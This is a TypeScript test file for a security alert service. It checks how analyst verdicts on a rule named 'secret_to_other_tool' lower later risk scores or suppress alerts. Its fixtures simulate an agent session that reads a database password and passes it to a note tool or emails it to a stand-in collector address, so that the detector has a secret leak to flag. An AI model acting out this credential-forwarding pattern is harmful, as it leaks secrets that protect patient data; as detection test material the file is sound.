/** What verdicts do to the alerts that come after them: less risk for a rule that was wrong, and never silence. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openService } from '../cli/service.ts';
import { loadConfig } from '../core/config.ts';
import { call, exampleRecords, prompt, type RawEvent, result } from '../detectors/example_events.ts';
import { verifyLog } from '../ingest/verify/verify.ts';
import { temporaryFolder } from './log_kit.ts';
import { startTestService, type TestService } from './support/http_service.ts';

const PASSWORD = 'Teal-Otter-4417';
const RULE = 'secret_to_other_tool';
const carried = (sink: RawEvent): RawEvent[] => [
  prompt('Check the connection of the patient database.'),
  call('clinicdb', 'read_settings', {}),
  result('clinicdb', 'read_settings', `host: db.internal\npassword: ${PASSWORD}\n`),
  sink,
];
const NOTE = carried(call('notes', 'create_note', { text: PASSWORD }));
const MAIL = carried(call('mailer', 'send_email', { to: 'desk@collector.test', body: PASSWORD }));

interface AlertJson {
  alert_id: string;
  severity: string;
  risk: number;
  reason: string;
  session_id: string;
  status: string;
}

const folder = temporaryFolder('feedback');
const config = loadConfig({ data: folder }, {});
let test: TestService;
let nth = 0;

beforeAll(async () => {
  test = await startTestService({ config });
});
afterAll(() => test.close());

/** The alert of the rule that a user's new session raises. */
async function raised(user_id: string, events = NOTE): Promise<AlertJson | undefined> {
  const session_id = `session-${nth++}`;
  await test.send(exampleRecords(session_id, events).map((record) => ({ ...(record as object), user_id })));
  await test.service.settled();
  const { alerts } = await test.read<{ alerts: AlertJson[] }>(
    `/v1/alerts?tenant=default&rule=${RULE}&session=${session_id}`,
  );
  return alerts[0];
}

async function act(alert: AlertJson | undefined, body: unknown): Promise<{ http: number; alert: AlertJson }> {
  const path = `/v1/alerts/${alert?.alert_id}/status?tenant=default`;
  const headers = { 'content-type': 'application/json' };
  const { status, text } = await test.ask('POST', path, {
    key: test.service.admin_key,
    headers,
    body: JSON.stringify(body),
  });
  return { http: status, ...(JSON.parse(text) as { alert: AlertJson }) };
}
const judge = (alert: AlertJson | undefined, verdict: string) => act(alert, { action: 'close', verdict });
const inDays = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString();

describe('a false positive', () => {
  it('lowers the risk of the next alert of its rule for its user, which says so; it is raised all the same', async () => {
    const first = await raised('ana');
    expect(first).toMatchObject({ severity: 'high', risk: 75 });
    await judge(first, 'false_positive');
    const next = await raised('ana');
    expect(next).toMatchObject({ severity: 'high', risk: 50, status: 'new' });
    expect(next?.reason).toMatch(
      / Its risk is 50 and not 75: 1 alert of this rule for this user within 90 days turned out false\.$/,
    );
    const { alerts } = await test.read<{ alerts: AlertJson[] }>('/v1/alerts?tenant=default&severity=high&user=ana');
    expect(alerts.map(({ alert_id }) => alert_id)).toContain(next?.alert_id);
  });

  it('changes nothing for another user, nor for one whose alert was only a test, benign or a duplicate', async () => {
    expect(await raised('ben')).toMatchObject({ risk: 75 });
    await judge(await raised('cleo'), 'test');
    await judge(await raised('cleo'), 'benign');
    expect(await raised('cleo')).toMatchObject({ risk: 75 });
  });

  it('leaves a critical alert the risk of a high one', async () => {
    for (let i = 0; i < 4; i++) await judge(await raised('dan', MAIL), 'false_positive');
    expect(await raised('dan', MAIL)).toMatchObject({ severity: 'critical', risk: 75 });
  });

  it('no longer counts once its alert is reopened, nor what was learnt before a true positive', async () => {
    const wrong = await raised('eve');
    await judge(wrong, 'false_positive');
    await act(wrong, { action: 'reopen' });
    expect(await raised('eve')).toMatchObject({ risk: 75 });
    await judge(wrong, 'false_positive');
    const lowered = await raised('eve');
    expect(lowered).toMatchObject({ risk: 50 });
    await judge(lowered, 'true_positive');
    expect(await raised('eve')).toMatchObject({ risk: 75 });
  });
});

describe('a benign verdict', () => {
  const hold = (more = {}) => ({
    action: 'close',
    verdict: 'benign',
    suppress: { reason: 'nightly job', expires_at: inDays(7), ...more },
  });

  it('can hold the like back: the rule for this user and agent, in the same step, with both in the history', async () => {
    const alert = await raised('fay');
    const body = { ...hold(), request_id: 'benign-1' };
    expect(await act(alert, body)).toMatchObject({ http: 200, alert: { status: 'closed', verdict: 'benign' } });
    expect(await raised('fay')).toBeUndefined();
    expect(await raised('gus')).toMatchObject({ severity: 'high' });
    expect(await act(alert, body)).toMatchObject({ http: 200, repeated: true });
    expect(await act(alert, { ...hold({ reason: 'other' }), request_id: 'benign-1' })).toMatchObject({
      http: 409,
      code: 'request_id_conflict',
    });
    const { history } = await test.read<{ history: { type: string }[] }>(
      `/v1/alerts/${alert?.alert_id}/history?tenant=default`,
    );
    expect(history.map(({ type }) => type)).toEqual(['alert.suppressed', 'alert.closed']);
    const { suppressions } = await test.read<{ suppressions: { scope: object; reason: string; hits: number }[] }>(
      '/v1/suppressions?tenant=default',
    );
    expect(suppressions).toMatchObject([{ scope: { rule_id: RULE, user_id: 'fay' }, reason: 'nightly job', hits: 1 }]);
  });

  it('that holds back with another verdict, without a reason, for ever or too wide is refused, and nothing is recorded', async () => {
    const alert = await raised('hal');
    const size = test.service.writer.head.size;
    for (const body of [
      { ...hold(), verdict: 'false_positive' },
      hold({ reason: undefined }),
      hold({ expires_at: inDays(91) }),
      hold({ expires_at: inDays(-1) }),
      hold({ scope: { rule_id: 'another' } }),
      hold({ scope: { rule_id: RULE, user_id: 'ana' } }),
    ]) {
      expect(await act(alert, body)).toMatchObject({ http: 400, code: 'query_invalid' });
    }
    expect(test.service.writer.head.size).toBe(size);
  });
});

it('is known again after a restart, and the log verifies', async () => {
  const alert = await raised('ida');
  await judge(alert, 'false_positive');
  const { store, keyring } = test.service;
  const report = await verifyLog({ store, vkey: keyring.vkey, pseudonyms: keyring.pseudonyms });
  expect([report.findings, report.ok]).toEqual([[], true]);
  await test.close();
  // Opening again reads the verdicts from the store.
  const service = await openService({ config });
  await service.close();
  test = await startTestService({ config });
  expect(await raised('ida')).toMatchObject({ risk: 50 });
});
